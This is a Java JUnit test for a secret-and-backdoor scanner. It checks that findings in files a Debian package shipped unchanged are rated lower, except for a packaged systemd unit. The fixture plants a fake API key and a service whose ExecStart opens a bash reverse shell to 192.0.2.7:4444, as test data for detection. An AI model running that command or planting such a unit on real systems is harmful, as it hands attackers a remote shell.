package io.amivet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Secrets in files that a package brought, as it brought them, are the distribution's. */
class PackageOwnershipTest {
  private static final String CONFIG = "api_key = q7Vb2xkLm9tH81pZq3Rw5Yc0\n";
  private static final String UNIT =
      "[Service]\nExecStart=/bin/sh -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'\n";

  @TempDir private Path tree;

  @Test
  void theSameSecretWeighsByWhoWroteTheFile() throws Exception {
    write("usr/share/acme/defaults.ini", CONFIG);
    write("usr/share/acme/changed.ini", CONFIG);
    write("opt/app/settings.ini", CONFIG);
    write("usr/lib/systemd/system/acme.service", UNIT);
    write(
        "var/lib/dpkg/info/acme.md5sums",
        md5(CONFIG)
            + "  usr/share/acme/defaults.ini\n"
            + md5("as it was packaged")
            + "  usr/share/acme/changed.ini\n"
            + md5(UNIT)
            + "  usr/lib/systemd/system/acme.service\n");
    JsonNode findings =
        new ObjectMapper().readTree(WholeRun.scan(tree.toString()).out()).get("findings");

    JsonNode vendor = finding(findings, "/usr/share/acme/defaults.ini");
    assertThat(vendor.get("severity").asText()).isEqualTo("info");
    assertThat(vendor.get("fields").get("package").asText()).isEqualTo("acme");
    for (String path : new String[] {"/usr/share/acme/changed.ini", "/opt/app/settings.ini"}) {
      assertThat(finding(findings, path).get("severity").asText()).isEqualTo("high");
      assertThat(finding(findings, path).get("fields").has("package")).isFalse();
    }
    // A package may well bring a backdoor.
    JsonNode unit = finding(findings, "/usr/lib/systemd/system/acme.service");
    assertThat(unit.get("severity").asText()).isNotEqualTo("info");
  }

  private static JsonNode finding(JsonNode findings, String path) {
    for (JsonNode finding : findings) {
      if (finding.get("path").asText().equals(path)) {
        return finding;
      }
    }
    throw new AssertionError("nothing found in " + path);
  }

  private void write(String path, String text) throws IOException {
    Path file = tree.resolve(path);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }

  private static String md5(String text) throws Exception {
    byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
    return HexFormat.of().formatHex(MessageDigest.getInstance("MD5").digest(bytes));
  }
}
